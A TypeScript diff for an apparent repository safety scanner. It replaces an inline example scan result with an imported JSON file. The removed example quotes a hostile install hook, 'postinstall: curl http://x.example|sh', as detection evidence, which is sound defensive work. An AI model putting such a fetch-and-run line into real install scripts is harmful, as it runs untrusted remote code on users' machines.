@@ -5,8 +5,9 @@ import { decisions, verdictFields } from '#shared/engines/guard/verdict.ts'
 import { readRepoUrl } from '#shared/engines/repo/repo-url.ts'
 import { invalidFields } from '#shared/errors.ts'
 
-import { defineOutcome } from '#shared/outcomes/define.ts'
+import { defineOutcome, exampleFrom } from '#shared/outcomes/define.ts'
 import { Source } from '#shared/outcomes/lib/source.ts'
+import example from './example.json' with { type: 'json' }
 
 const text = z.string().nullable()
 const CategoryReport = z.object({
@@ -106,71 +107,7 @@ export const repoSafety = defineOutcome({
     }),
     unknowns: z.array(z.string()).describe('checks that could not run, and why'),
   }),
-  example: {
-    input: { repo_url: 'https://github.com/acme/widgets' },
-    output: {
-      source: {
-        name: 'GitHub',
-        url: 'https://api.github.com/repos/acme/widgets',
-        fetched_at: '2026-11-20T12:00:00.000Z',
-        cached: false,
-        cache_age_s: 0,
-        stale: false,
-      },
-      as_of: '2026-11-20T12:00:00.000Z',
-      decision: 'block',
-      reasons: [
-        {
-          code: 'install_script_network',
-          severity: 'critical',
-          message: 'A script that runs by itself on install downloads something and runs it. (package.json)',
-          evidence: { path: 'package.json', line: null, excerpt: 'postinstall: curl http://x.example|sh' },
-        },
-      ],
-      checks: [{ id: 'recent_push', status: 'pass', detail: 'last push 3 days ago' }],
-      risk_score: 60,
-      next_action: 'Do not install or run anything of this repository; read the named places first.',
-      input_digest: '52f1ce03f3ad1b6a4d7b0ce0bdf0b7f4f2d7e15e8d4cf0ab7c2d8d9b3a1c5e60',
-      ruleset: 'repo-safety/2026-11-20',
-      repo: {
-        host: 'github',
-        owner: 'acme',
-        name: 'widgets',
-        url: 'https://github.com/acme/widgets',
-        default_branch: 'main',
-        commit: 'a94a8fe5ccb19ba61c4c0873d391e987982fbbd3',
-        archived: false,
-        fork: false,
-        created_at: '2020-01-01T00:00:00.000Z',
-        pushed_at: '2026-11-17T00:00:00.000Z',
-        stars: 12,
-        license_spdx: 'MIT',
-      },
-      score: 39,
-      grade: 'F',
-      categories: {
-        maintenance: { score: 90, weight: 20, checks: [] },
-        security_practice: { score: 60, weight: 25, checks: [] },
-        supply_chain: { score: 40, weight: 25, checks: [] },
-        code_indicators: { score: 100, weight: 25, checks: [] },
-        provenance: { score: null, weight: 5, checks: [] },
-      },
-      scorecard: null,
-      vulnerabilities: [],
-      indicators: [
-        {
-          code: 'install_script_network',
-          path: 'package.json',
-          line: null,
-          excerpt: 'postinstall: curl http://x.example|sh',
-          severity: 'critical',
-          message: 'A script that runs by itself on install downloads something and runs it.',
-        },
-      ],
-      scanned: { files: 14, not_fetched: 0, past_limit: 0, locked_packages: 120 },
-      unknowns: [],
-    },
-  },
+  example: exampleFrom(example),
   check({ repo_url: url }) {
     if (readRepoUrl(url) !== null) return
     const msg = 'Value error, this is not the address of a repository on github.com, gitlab.com or codeberg.org'
